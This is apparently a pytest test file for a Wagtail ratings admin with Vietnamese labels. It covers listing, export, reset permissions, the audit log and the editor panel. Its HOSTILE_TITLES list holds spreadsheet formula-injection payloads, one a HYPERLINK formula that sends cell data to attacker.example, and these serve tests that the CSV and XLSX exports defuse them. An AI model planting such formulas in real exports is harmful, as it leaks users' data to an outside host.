"""The ratings in the Wagtail admin: listing, export, reset, dashboard, page editor."""

import csv
import io
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.test import RequestFactory
from django.urls import reverse
from wagtail.models import Locale, ModelLogEntry, Page
from wagtail.users.models import UserProfile

from tests.portal.models import NewsPage
from wagtail_dangvu.ratings.models import Rating, Vote
from wagtail_dangvu.ratings.panels import RatingPanel

pytestmark = pytest.mark.django_db


def url(name, *args):
    return reverse(Rating.snippet_viewset.get_url_name(name), args=args)


def user_with(*codenames):
    name = "-".join(("editor", *codenames))
    group = Group.objects.create(name=name)
    group.permissions.add(
        Permission.objects.get(codename="access_admin"),
        *Permission.objects.filter(
            content_type__app_label="wagtail_dangvu_ratings", codename__in=codenames
        ),
    )
    user = get_user_model().objects.create_user(name, password="x")
    user.groups.add(group)
    return user


@pytest.fixture
def admin(client, admin_user):
    client.force_login(admin_user)
    return client


@pytest.fixture
def rated(home, reader_factory):
    """Three rated pages: 21 in 5 (4.2), 17 in 4 (4.3) and 2 in 2 (1.0)."""
    pages = {}
    for title, scores in {
        "Sơ kết Kết luận 21-KL/TW": (5, 4, 4, 4, 4),
        "Tọa đàm dân vận khéo": (5, 4, 4, 4),
        "Thông báo lịch tiếp dân": (1, 1),
    }.items():
        pages[title] = home.add_child(instance=NewsPage(title=title))
        for score in scores:
            assert reader_factory().vote(pages[title], score).status_code == 201
    return pages


def listed_titles(response):
    html = response.content.decode()
    titles = ["Sơ kết Kết luận 21-KL/TW", "Tọa đàm dân vận khéo", "Thông báo lịch tiếp dân"]
    return sorted((html.find(f">{t}<"), t) for t in titles if f">{t}<" in html)


def test_the_listing_shows_rated_pages_with_their_figures(admin, rated):
    response = admin.get(url("list"))

    html = response.content.decode()
    assert response.status_code == 200
    for title in rated:
        assert title in html
    for figure in ("<td>21</td>", "<td>4.2</td>", "<td>4.3</td>", "<td>1.0</td>"):
        assert figure.replace("<td>", "").replace("</td>", "") in html
    assert "Tất cả ngôn ngữ" in html


def test_the_admin_speaks_of_ratings_not_of_votes(admin, rated, admin_user):
    """ "Đánh giá", "lượt đánh giá", "người đánh giá": "bầu" is an election's word, kept
    only in the reader's line under an article ("Xếp hạng: 4.2 - 5 phiếu bầu")."""
    rating = Rating.objects.get(page__title="Sơ kết Kết luận 21-KL/TW")
    pages = {
        "listing": admin.get(url("list")).content.decode(),
        "reset": admin.get(url("reset", rating.pk)).content.decode(),
        "edit": admin.get(url("edit", rating.pk)).content.decode(),
        "panel": render_panel(rated["Sơ kết Kết luận 21-KL/TW"], admin_user),
    }
    assert "Lượt đánh giá" in pages["listing"]
    assert "Áp dụng cho" in pages["listing"]
    assert "những bạn đọc đã đánh giá có thể đánh giá lại" in pages["reset"]
    for name, html in pages.items():
        assert not re.search(r"\bbầu\b", html), name
    vote = Vote._meta
    assert (str(vote.verbose_name), str(vote.get_field("created_at").verbose_name)) == (
        "lượt đánh giá",
        "thời điểm đánh giá",
    )
    assert str(vote.get_field("voter_key").verbose_name) == "mã người đánh giá"


def test_the_listing_groups_thousands_in_the_admin_s_language(admin, admin_user, rated):
    # An imported counter: 12,345 votes. Django's Vietnamese formats group no digits.
    Rating.objects.filter(page__title="Tọa đàm dân vận khéo").update(count=12345, total=43210)
    assert ">12345<" in admin.get(url("list")).content.decode().replace("\n", "").replace(" ", "")

    profile = UserProfile.get_for_user(admin_user)
    profile.preferred_language = "en"
    profile.save()
    html = admin.get(url("list")).content.decode()
    assert "12,345" in html
    assert "43,210" in html


def test_each_row_offers_its_reset_in_the_more_menu(admin, rated):
    html = admin.get(url("list")).content.decode()

    for rating in Rating.objects.all():
        link = re.search(
            rf'<a [^>]*href="{re.escape(url("reset", rating.pk))}"[^>]*>(.*?)</a>', html, re.S
        )
        assert link, rating
        assert "Đặt lại" in link.group(1)


def test_the_listing_sorts_by_average_votes_and_title(admin, rated):
    best_first = [
        t for _, t in listed_titles(admin.get(url("list"), {"ordering": "-average_value"}))
    ]
    most_first = [t for _, t in listed_titles(admin.get(url("list"), {"ordering": "-count"}))]

    assert best_first == [
        "Tọa đàm dân vận khéo",
        "Sơ kết Kết luận 21-KL/TW",
        "Thông báo lịch tiếp dân",
    ]
    assert most_first == [
        "Sơ kết Kết luận 21-KL/TW",
        "Tọa đàm dân vận khéo",
        "Thông báo lịch tiếp dân",
    ]
    assert admin.get(url("list"), {"ordering": "page__title"}).status_code == 200


def test_the_listing_is_searchable_by_page_title(admin, rated):
    response = admin.get(url("list"), {"q": "dân vận"})

    assert [t for _, t in listed_titles(response)] == ["Tọa đàm dân vận khéo"]


def test_the_listing_filters_by_votes_and_switch(admin, rated):
    Rating.objects.filter(page__title="Tọa đàm dân vận khéo").update(enabled=False)

    at_least_four = admin.get(url("list"), {"count": "4"})
    switched_off = admin.get(url("list"), {"enabled": "false"})
    shared = admin.get(url("list"), {"locale": "null"})
    vietnamese_only = admin.get(url("list"), {"locale": Locale.objects.get(language_code="vi").pk})

    assert [t for _, t in listed_titles(at_least_four)] == [
        "Sơ kết Kết luận 21-KL/TW",
        "Tọa đàm dân vận khéo",
    ]
    assert [t for _, t in listed_titles(switched_off)] == ["Tọa đàm dân vận khéo"]
    assert len(listed_titles(shared)) == 3
    assert listed_titles(vietnamese_only) == []


def test_the_listing_exports_csv(admin, rated):
    response = admin.get(url("list"), {"export": "csv", "ordering": "-count"})

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:6] == [
        "Trang",
        "Địa chỉ",
        "Áp dụng cho",
        "Tổng số điểm",
        "Lượt đánh giá",
        "Điểm trung bình",
    ]
    assert rows[1][0] == "Sơ kết Kết luận 21-KL/TW"
    assert rows[1][3:6] == ["21", "5", "4.2"]
    assert len(rows) == 4


def test_the_listing_exports_xlsx(admin, rated):
    response = admin.get(url("list"), {"export": "xlsx", "ordering": "-count"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][0] == "Sơ kết Kết luận 21-KL/TW"
    assert rows[1][3:6] == (21, 5, 4.2)


HOSTILE_TITLES = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(home):
    """Pages whose titles a spreadsheet would run as formulas, each with a rating."""
    for number, title in enumerate(HOSTILE_TITLES):
        page = home.add_child(instance=NewsPage(title=title, slug=f"hostile-{number}"))
        Rating.objects.import_counters(page, total=4, count=1)


def test_the_csv_export_starts_no_formula(admin, hostile):
    response = admin.get(url("list"), {"export": "csv"})

    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))[1:]
    assert sorted(row[0] for row in rows) == sorted("'" + title for title in HOSTILE_TITLES)
    assert {row[3] for row in rows} == {"4"}  # figures stay figures


def test_the_xlsx_export_keeps_titles_as_text(admin, hostile):
    response = admin.get(url("list"), {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # As typed (an XML reader reads a carriage return as a line feed).
    assert sorted(cell.value for cell in cells) == sorted(
        title.replace("\r", "\n") for title in HOSTILE_TITLES
    )
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula ("f")


def test_the_exports_are_named_in_the_admins_language(admin, rated):
    csv_response = admin.get(url("list"), {"export": "csv"})
    xlsx_response = admin.get(url("list"), {"export": "xlsx"})

    assert csv_response["Content-Disposition"] == (
        "attachment; filename=\"danh-gia.csv\"; filename*=UTF-8''%C4%91%C3%A1nh-gi%C3%A1.csv"
    )
    assert xlsx_response["Content-Disposition"] == (
        "attachment; filename=\"danh-gia.xlsx\"; filename*=UTF-8''%C4%91%C3%A1nh-gi%C3%A1.xlsx"
    )


def test_a_reset_asks_first(admin, rated):
    rating = Rating.objects.get(page__title="Sơ kết Kết luận 21-KL/TW")

    response = admin.get(url("reset", rating.pk))

    assert response.status_code == 200
    assert "5 lượt đánh giá và 21 điểm" in response.content.decode()
    assert Rating.objects.get(pk=rating.pk).count == 5


def test_a_reset_zeroes_the_rating_and_is_in_the_audit_log(admin, admin_user, rated):
    rating = Rating.objects.get(page__title="Sơ kết Kết luận 21-KL/TW")

    response = admin.post(url("reset", rating.pk))

    assert response.status_code == 302
    assert response["Location"] == url("list")
    rating.refresh_from_db()
    assert (rating.total, rating.count) == (0, 0)
    assert not Vote.objects.filter(rating=rating).exists()
    assert Vote.objects.count() == 6  # the other pages keep theirs
    entry = ModelLogEntry.objects.get(action="wagtail_dangvu_ratings.reset")
    assert entry.object_id == str(rating.pk)
    assert entry.user == admin_user
    assert entry.data["total"] == 21
    assert entry.data["count"] == 5
    assert entry.message == "Đã đặt lại đánh giá"


def test_after_a_reset_the_readers_can_vote_again(admin, rated, reader_factory):
    page = rated["Thông báo lịch tiếp dân"]
    reader = reader_factory()
    reader.vote(page, 1)
    admin.post(url("reset", Rating.objects.get(page=page).pk))

    assert reader.vote(page, 5).status_code == 201
    assert reader.get(page).json()["total"] == 5


def test_reset_needs_its_own_permission(client, rated):
    rating = Rating.objects.get(page__title="Sơ kết Kết luận 21-KL/TW")
    client.force_login(user_with("change_rating"))

    listing = client.get(url("list")).content.decode()
    asked = client.get(url("reset", rating.pk))
    posted = client.post(url("reset", rating.pk))

    assert url("reset", rating.pk) not in listing
    assert asked.status_code == posted.status_code == 302
    assert asked["Location"] == posted["Location"] == reverse("wagtailadmin_home")
    assert Rating.objects.get(pk=rating.pk).count == 5
    assert not ModelLogEntry.objects.filter(action="wagtail_dangvu_ratings.reset").exists()


def test_the_reset_permission_is_enough_to_reset(client, rated):
    rating = Rating.objects.get(page__title="Sơ kết Kết luận 21-KL/TW")
    client.force_login(user_with("change_rating", "reset_rating"))

    assert url("reset", rating.pk) in client.get(url("list")).content.decode()
    assert client.post(url("reset", rating.pk)).status_code == 302
    assert Rating.objects.get(pk=rating.pk).count == 0


def test_the_permission_has_a_vietnamese_name():
    from django.utils import translation

    permission = Permission.objects.get(codename="reset_rating")
    with translation.override("vi"):
        assert str(Rating._meta.permissions[0][1]) == "Có thể đặt lại đánh giá"
    assert permission.name == "Can reset rating"


def test_an_editor_can_switch_a_pages_stars_off(admin, rated):
    rating = Rating.objects.get(page__title="Tọa đàm dân vận khéo")

    response = admin.post(url("edit", rating.pk), {"enabled": ""})

    assert response.status_code == 302
    rating.refresh_from_db()
    assert rating.enabled is False
    assert rating.count == 4


def test_an_editor_can_switch_the_stars_off_before_the_first_vote(admin, article):
    response = admin.post(url("add"), {"page": article.pk, "enabled": ""})

    assert response.status_code == 302
    rating = Rating.objects.get()
    assert (rating.page_id, rating.enabled, rating.count) == (article.pk, False, 0)
    assert rating.translation_key == article.translation_key


def test_a_page_gets_one_rating_only(admin, rated):
    page = rated["Tọa đàm dân vận khéo"]

    response = admin.post(url("add"), {"page": page.pk, "enabled": "on"})

    assert response.status_code == 200
    assert "Trang này đã có đánh giá." in response.content.decode()
    assert Rating.objects.filter(translation_key=page.translation_key).count() == 1


def test_the_dashboard_shows_the_most_and_the_best_rated_pages(admin, rated):
    html = admin.get(reverse("wagtailadmin_home")).content.decode()

    most = html[html.index("Trang được đánh giá nhiều nhất") :]
    best = html[html.index("Trang được đánh giá cao nhất") :]
    assert most.index("Sơ kết Kết luận 21-KL/TW") < most.index("Tọa đàm dân vận khéo")
    assert best.index("Tọa đàm dân vận khéo") < best.index("Sơ kết Kết luận 21-KL/TW")


def test_the_dashboard_panel_is_for_those_who_may_see_ratings(client, rated):
    client.force_login(user_with())

    html = client.get(reverse("wagtailadmin_home")).content.decode()

    assert "Trang được đánh giá nhiều nhất" not in html


def test_the_page_editor_of_any_page_type_links_to_the_rating(admin, rated):
    page = rated["Sơ kết Kết luận 21-KL/TW"]

    html = admin.get(reverse("wagtailadmin_pages:edit", args=[page.pk])).content.decode()

    assert "Xếp hạng: 4.2 - 5 phiếu bầu" in html
    assert url("edit", Rating.objects.get(page=page).pk) in html


def render_panel(page, user):
    request = RequestFactory().get("/admin/")
    request.user = user
    panel = RatingPanel().bind_to_model(Page)
    return panel.get_bound_panel(instance=page, request=request, form=None).render_html()


def test_the_rating_panel_shows_a_pages_rating(admin_user, rated):
    page = rated["Sơ kết Kết luận 21-KL/TW"]
    Rating.objects.import_counters(page, total=40, count=10)

    html = render_panel(page, admin_user)

    assert "<dd>15</dd>" in html
    assert "<dd>61</dd>" in html
    assert "<dd>4.1</dd>" in html
    assert "40 điểm từ 10 lượt đánh giá" in html
    assert url("reset", Rating.objects.get(page=page).pk) in html


def test_the_rating_panel_of_an_unrated_page(admin_user, article):
    assert "Chưa có lượt đánh giá nào." in render_panel(article, admin_user)
    assert "Chưa có lượt đánh giá nào." in render_panel(Page(title="Mới"), admin_user)


def test_the_rating_panel_fits_in_any_page_types_edit_handler(admin_user, rated):
    from wagtail.admin.panels import FieldPanel, ObjectList, TabbedInterface

    try:
        from wagtail.admin.telepath import JSContext
    except ImportError:  # Wagtail 7.0 packs no panel for the browser: nothing to fit there
        JSContext = None

    page = rated["Sơ kết Kết luận 21-KL/TW"]
    edit_handler = TabbedInterface(
        [
            ObjectList([FieldPanel("title")], heading="Content"),
            ObjectList([RatingPanel()], heading="Rating"),
        ]
    ).bind_to_model(Page)
    request = RequestFactory().get("/admin/")
    request.user = admin_user
    form = edit_handler.get_form_class()(instance=page, for_user=admin_user)

    bound = edit_handler.get_bound_panel(instance=page, request=request, form=form)

    assert "Xếp hạng" not in bound.render_form_content()  # the panel shows figures, not lines
    assert "<dd>21</dd>" in bound.render_form_content()
    if JSContext is not None:  # Wagtail 7.1 and newer
        assert JSContext().pack(bound)
    assert edit_handler.get_form_options()["fields"] == ["title"]  # it adds no field
